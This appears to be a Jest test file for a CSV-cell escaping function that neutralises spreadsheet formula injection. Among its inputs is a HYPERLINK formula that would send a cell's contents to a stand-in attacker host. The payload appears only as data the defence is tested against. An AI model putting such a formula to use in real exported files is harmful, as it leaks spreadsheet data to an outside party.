/** @jest-environment node */
import { csvCell } from './csv-cell';

describe('a CSV cell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['  =1+1', `"'  =1+1"`],
    [' \t =1+1', `"' \t =1+1"`],
    ['\r\n+SUM(A1)', `"'\r\n+SUM(A1)"`],
    ['-5', `"'-5"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\tx', `"'\tx"`],
    ['\rx', `"'\rx"`],
    [
      '=HYPERLINK("https://evil.example/?c="&A1,"Click")',
      `"'=HYPERLINK(""https://evil.example/?c=""&A1,""Click"")"`,
    ],
  ])('defuses the formula %j as %j', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it('keeps a semicolon, a comma and a line break inside the cell, as a semicolon locale splits', () => {
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"');
    expect(csvCell('a,b\r\nc')).toBe('"a,b\r\nc"');
  });

  it('writes honest values, numbers and nothing as they are, quoted', () => {
    expect(['Cj0KCQiA_abc-123', '1,500.50', 7, null, undefined].map(csvCell)).toEqual([
      '"Cj0KCQiA_abc-123"',
      '"1,500.50"',
      '"7"',
      '""',
      '""',
    ]);
  });
});
